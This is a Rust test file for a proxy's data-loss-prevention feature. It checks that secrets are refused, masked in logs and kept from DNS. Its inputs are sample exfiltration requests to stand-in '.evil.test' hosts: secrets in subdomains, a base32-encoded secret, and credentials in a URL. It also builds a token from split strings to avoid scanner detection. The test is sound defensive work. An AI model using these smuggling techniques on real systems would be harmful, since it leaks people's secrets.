//! The words of a request that the log and the answer repeat: nothing of a secret is in either.

use serde_json::{Value, json};

use crate::support::{Dns, Guard, get, send};

const VALUE: &str = "s3cr3tValue0123456789xyz";

/// A secret of letters alone, short enough for a method.
const WORD: &str = "AbsolutelySecretWord";

fn start(action: &str, dns: &Dns) -> Guard {
    let config = json!({
        "dlp": { "secrets_env": "BOTTLE_SECRETS", "secrets": action },
        "resolver": dns.address.to_string(),
        "policy": { "rules": [{ "rule": "*.wild.test" }] },
    });
    let secrets = json!([{ "name": "TOKEN", "value": VALUE }, { "name": "WORD", "value": WORD }]).to_string();
    Guard::start_on("127.0.0.1:0", &config, &[("BOTTLE_SECRETS", &secrets)])
}

fn holds_none(text: &str) {
    let text = text.to_ascii_lowercase();
    for part in [VALUE, WORD, "OMZWG4RTORLGC3DVMUYDCMRTGQ2TMNZYHF4HS6Q"] {
        assert!(!text.contains(&part.to_ascii_lowercase()), "{text}");
    }
}

/// Sends requests and returns the last line of each, after checking log and answers for what must not be in them.
fn lines(guard: &Guard, requests: &[String]) -> Vec<Value> {
    let each = requests.iter().map(|request| {
        let before = guard.log().len();
        let answer = send(guard.address(), request.as_bytes());
        holds_none(&format!("{}{}", answer.head, answer.body));
        guard.decision_after(before)
    });
    let lines: Vec<Value> = each.collect();
    guard.log().iter().for_each(|line| holds_none(&line.to_string()));
    lines
}

fn connect(authority: &str) -> String {
    format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n")
}

#[test]
fn a_name_that_holds_a_secret_is_masked_in_every_refusal() {
    let dns = Dns::start(&[]);
    let guard = start("block", &dns);
    let requests = [
        connect(&format!("{VALUE}.wild.test:443")),
        // Nothing allows these, which the policy would say with the name in it.
        connect(&format!("{VALUE}.evil.test:443")),
        connect(&format!("{}.evil.test:443", WORD.to_ascii_lowercase())),
        connect("OMZWG4RTORLGC3DVMUYDCMRTGQ2TMNZYHF4HS6Q.evil.test:443"),
        connect("s3cr3tvalue.0123456789xyz.evil.test:443"),
        String::from_utf8(get(&format!("{VALUE}.evil.test"), "/")).unwrap(),
    ];
    for line in lines(&guard, &requests) {
        assert_eq!((&line["code"], &line["host"]), (&json!("dlp_secret"), &json!("***")), "{line}");
    }
    let malformed = [
        connect(&format!("{VALUE}..evil.test:443")),
        connect(&format!("{VALUE}.evil.test.:443")),
        format!("GET http://user:{VALUE}@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
        format!("GET {VALUE} HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
        format!("GET ftp://{VALUE}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    ];
    for line in lines(&guard, &malformed) {
        assert_eq!((&line["verdict"], &line["host"]), (&json!("deny"), &json!("***")), "{line}");
    }
    assert!(dns.questions().is_empty());
}

/// Together, so that no scanner takes this file for a leak.
#[test]
fn a_foreign_token_in_a_name_is_refused_and_masked() {
    let dns = Dns::start(&[]);
    let guard = start("block", &dns);
    let token = ["gh", "p_", "9aZ3kQ7xW1vB5nM8cL2jH6gF4dS0pReTyU1q"].concat();
    let answer = send(guard.address(), connect(&format!("{token}.wild.test:443")).as_bytes());
    assert!(!answer.body.to_ascii_lowercase().contains(&token.to_ascii_lowercase()), "{answer:?}");
    let line = guard.decision_after(0);
    assert_eq!((&line["code"], &line["host"]), (&json!("dlp_rule"), &json!("***")), "{line}");
    assert!(dns.questions().is_empty());
}

#[test]
fn a_warning_keeps_the_name_out_of_the_log_too() {
    let dns = Dns::start(&[]);
    let guard = start("warn", &dns);
    let requests = [connect(&format!("{VALUE}.wild.test:443")), connect(&format!("{VALUE}.evil.test:443"))];
    let lines = lines(&guard, &requests);
    assert_eq!((&lines[0]["code"], &lines[0]["host"]), (&json!("no_such_host"), &json!("***")));
    assert_eq!((&lines[1]["code"], &lines[1]["host"]), (&json!("not_in_allowlist"), &json!("***")));
    assert!(lines[1]["reason"].as_str().unwrap().contains("`***`"), "{}", lines[1]);
}

#[test]
fn a_method_is_a_word_and_holds_no_secret() {
    let dns = Dns::start(&[]);
    let guard = start("block", &dns);
    let with = |method: &str| format!("{method} http://a.wild.test/ HTTP/1.1\r\nHost: a.wild.test\r\n\r\n");
    for line in lines(&guard, &[with(VALUE), with("A-b-c"), with("ABCDEFGHIJKLMNOPQRSTU")]) {
        assert_eq!((&line["code"], &line["method"]), (&json!("bad_request"), &json!("")), "{line}");
    }
    for line in lines(&guard, &[with(WORD), with(&WORD.to_ascii_uppercase())]) {
        assert_eq!((&line["code"], &line["method"]), (&json!("dlp_secret"), &json!("***")), "{line}");
    }
    assert!(dns.questions().is_empty());
    assert_eq!(lines(&guard, &[with("PROPFIND")])[0]["code"], "no_such_host");
}
